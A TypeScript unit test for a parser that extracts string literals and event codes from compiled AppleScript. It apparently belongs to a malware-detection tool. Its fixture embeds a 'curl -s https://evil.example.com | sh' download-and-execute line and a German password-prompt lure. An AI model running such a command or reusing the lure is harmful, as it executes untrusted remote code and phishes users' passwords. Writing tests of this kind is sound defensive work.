import { deepEqual } from 'node:assert/strict'
import { test } from 'node:test'
import { readCompiledAppleScript } from '../../src/scripts/compiled-apple-script.ts'

const wide = (text: string) => Buffer.from(text, 'utf16le').swap16()

test('compiled AppleScript: literals of both widths and events are found', () => {
  const script = Buffer.concat([
    Buffer.from('FasdUAS 1.101.10\x0e\0\0\0\x04\x0f\xff\xff', 'latin1'),
    wide('curl -s https://evil.example.com | sh'),
    Buffer.from([0, 7, 0xff]),
    Buffer.from('\x01sysoexec\xff\x02sysodlog\0'),
    wide('Geben Sie Ihr Kennwort ein – für „System“'),
  ])
  const { texts, events } = readCompiledAppleScript(script)
  deepEqual(
    texts.filter((text) => text.length > 12).map((text) => text.trim()),
    [
      'FasdUAS 1.101.10',
      'curl -s https://evil.example.com | sh',
      'Geben Sie Ihr Kennwort ein – für „System“',
    ],
  )
  deepEqual(events.toSorted(), ['display dialog', 'do shell script'])
})
